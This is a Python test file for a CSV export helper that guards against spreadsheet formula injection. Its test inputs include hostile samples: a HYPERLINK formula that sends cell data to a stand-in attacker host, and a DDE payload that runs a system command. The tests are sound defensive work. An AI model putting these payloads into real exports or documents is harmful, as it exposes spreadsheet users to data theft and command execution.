"""CSV: names that a spreadsheet would run come out as text, numbers and all else as they are."""

from __future__ import annotations

import csv
import io
import re
from pathlib import Path

import pytest

from dmlcore.storage.csv_text import as_csv

ROOT = Path(__file__).parents[2]


@pytest.mark.parametrize(
    "name",
    [
        '=HYPERLINK("http://evil.test?x="&A1,"click")',
        "+1+cmd|' /C calc'!A0",
        "-2+3",
        "@SUM(1)",
        "\t=1",
        "\r=1",
        "\n=1",
        "-1\n=2",
        "\uff1d1+1",
        "-",
        "=",
    ],
)
def test_formulas_are_text(name: str) -> None:
    text = as_csv([["class", "x"], [name, 1.5]])
    assert list(csv.reader(io.StringIO(text, newline=""))) == [["class", "x"], ["'" + name.replace("\r", "\n"), "1.5"]]
    assert text.count('"') % 2 == 0


def test_numbers_names_and_gaps_stay_as_they_are() -> None:
    row = [-0.5, "-0.5", "+1e-07", "-inf", 3, None, "Blue Jay", "a=b", "", 'O\'Brien, "x"', "a\r=1"]
    shown = ["-0.5", "-0.5", "+1e-07", "-inf", "3", "", "Blue Jay", "a=b", "", 'O\'Brien, "x"', "a\n=1"]
    assert list(csv.reader(io.StringIO(as_csv([row])))) == [shown]
    assert as_csv([[1], [2]]) == "1\n2\n"


def test_nothing_else_writes_csv() -> None:
    """So that the next export cannot forget it."""
    writes = re.compile(r"csv\.(writer|DictWriter)|\.to_csv\(")
    found = [
        str(path.relative_to(ROOT))
        for folder in ("dmlcore", "pages")
        for path in (ROOT / folder).rglob("*.py")
        if writes.search(path.read_text())
    ]
    assert found == ["dmlcore/storage/csv_text.py"]
